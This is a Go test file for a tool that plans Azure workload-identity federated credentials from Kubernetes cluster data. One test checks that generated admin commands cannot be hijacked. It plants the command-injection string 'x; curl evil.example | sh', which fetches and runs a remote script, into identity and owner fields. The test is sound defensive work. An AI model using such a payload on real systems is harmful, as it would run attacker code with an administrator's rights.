package migrate

import (
	"bytes"
	"encoding/json"
	"flag"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	"sigs.k8s.io/yaml"
)

var update = flag.Bool("update", false, "write the golden files")

func cluster(t *testing.T) Cluster {
	t.Helper()
	text, err := os.ReadFile("testdata/cluster.yaml")
	if err != nil {
		t.Fatal(err)
	}
	list, err := yaml.YAMLToJSON(text)
	if err != nil {
		t.Fatal(err)
	}
	c, err := Read(list)
	if err != nil {
		t.Fatal(err)
	}
	return c
}

func TestReport(t *testing.T) {
	for name, o := range map[string]Options{
		"everywhere": {Issuer: "https://issuer.example/c", Audience: "api://AzureADTokenExchange"},
		"namespaced": {Issuer: "https://kubernetes.default.svc.cluster.local", Audience: "api://AzureADTokenExchange", Namespaced: true},
	} {
		r := Plan(cluster(t), o)
		if name == "everywhere" {
			r.Credentials[0].State = Exists
			r.Credentials[1].State, r.Credentials[1].Reason = Refused, "AuthorizationFailed: …"
		}
		var text bytes.Buffer
		r.Write(&text)
		document, err := json.MarshalIndent(r, "", "  ")
		if err != nil {
			t.Fatal(err)
		}
		golden(t, name+".txt", text.String())
		golden(t, name+".json", string(document)+"\n")
	}
}

func golden(t *testing.T, name, got string) {
	t.Helper()
	file := filepath.Join("testdata", name)
	if *update {
		if err := os.WriteFile(file, []byte(got), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(file)
	if err != nil {
		t.Fatal(err)
	}
	if diff := cmp.Diff(string(want), got); diff != "" {
		t.Errorf("%s (-want +got, write it with -update):\n%s", name, diff)
	}
}

// Azure takes names of 3 to 120 letters, digits, hyphens and underscores.
func TestCredentialNames(t *testing.T) {
	seen := map[string]bool{}
	for _, name := range []string{
		credentialName("a", "b", "i"), credentialName("a", "b", "j"), credentialName("a-b", "c", "i"), credentialName("a", "b-c", "i"),
		credentialName(strings.Repeat("n", 63), strings.Repeat("s", 253), "i"), credentialName("n", "with.dots", "i"),
	} {
		if seen[name] || len(name) > 120 || len(name) < 3 || strings.ContainsAny(name, "./ ") {
			t.Errorf("credential %s", name)
		}
		seen[name] = true
	}
}

// The pod that is multiplied has two identities.
func TestTooManyCredentialsForOneIdentity(t *testing.T) {
	c := cluster(t)
	pod := c.pods[0]
	for range mostCredentials + 1 {
		pod.Metadata.Name += "x"
		pod.Spec.ServiceAccountName += "x"
		c.pods = append(c.pods, pod)
	}
	r := Plan(c, Options{Issuer: "https://issuer.example/c", Audience: "a"})
	if len(r.Notes) != 2 || !strings.Contains(r.Notes[0], "more than the 20 federated credentials") {
		t.Errorf("notes: %q", r.Notes)
	}
}

func TestListsThatAreNone(t *testing.T) {
	for _, bad := range []string{"", "[]", `{"items": [1]}`, `{"items": [{"kind": "Pod", "metadata": 1}]}`} {
		if _, err := Read([]byte(bad)); err == nil {
			t.Errorf("%q was read", bad)
		}
	}
}

// An administrator runs the commands: who may write an AzureIdentity or a pod puts nothing else into them.
func TestCommandsHaveNothingOfOthersInThem(t *testing.T) {
	const evil = "x; curl evil.example | sh"
	for name, change := range map[string]func(*Cluster){
		"client ID": func(c *Cluster) {
			for key, identity := range c.identities {
				identity.Spec.ClientID = evil
				c.identities[key] = identity
			}
		},
		"resource ID": func(c *Cluster) {
			for key, identity := range c.identities {
				identity.Spec.ResourceID = "/subscriptions/s/resourceGroups/" + evil + "/providers/Microsoft.ManagedIdentity/userAssignedIdentities/i"
				c.identities[key] = identity
			}
		},
		"owner": func(c *Cluster) {
			for i := range c.pods {
				owners := c.pods[i].Metadata.OwnerReferences
				for j := range owners {
					owners[j].Kind, owners[j].Name = "DaemonSet", evil
				}
			}
		},
	} {
		c := cluster(t)
		change(&c)
		var text bytes.Buffer
		Plan(c, Options{Issuer: "https://issuer.example/c", Audience: "a"}).commands(&text)
		if strings.Contains(text.String(), evil) {
			t.Errorf("%s: %s", name, text.String())
		}
	}
}
